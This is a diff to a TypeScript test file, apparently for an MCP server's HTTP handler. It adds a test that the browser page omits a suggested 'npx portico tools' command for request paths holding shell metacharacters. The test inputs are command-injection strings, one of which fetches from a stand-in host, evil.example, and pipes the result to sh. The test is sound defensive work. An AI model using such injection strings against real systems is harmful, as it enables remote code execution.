@@ -33,6 +33,14 @@ it('escapes everything that a request or the author can put into the page', asyn
   expect(text).toContain('&lt;b&gt;&quot;notes&quot; &amp; more&lt;/b&gt;')
 })
 
+it('shows no command for an address that a shell would not take as one word', async () => {
+  const handler = httpHandler(testServer(), { allowedHosts: ['mcp.example.com'] })
+  const textAt = async (path: string): Promise<string> =>
+    (await handler.fetch(new Request(`https://mcp.example.com${path}`, { headers: { accept: BROWSER } }))).text()
+  expect(await textAt('/mcp')).toContain('npx portico tools https://mcp.example.com/mcp<')
+  for (const path of ["/mcp;curl$IFS'evil.example'|sh", '/mcp&&sh', '/$(sh)']) expect(await textAt(path)).not.toContain('npx portico')
+})
+
 it('names https behind a proxy that says so, and only if proxies are trusted', async () => {
   const trusting = await serve(testServer(), { trustProxy: true })
   const plain = await serve(testServer())
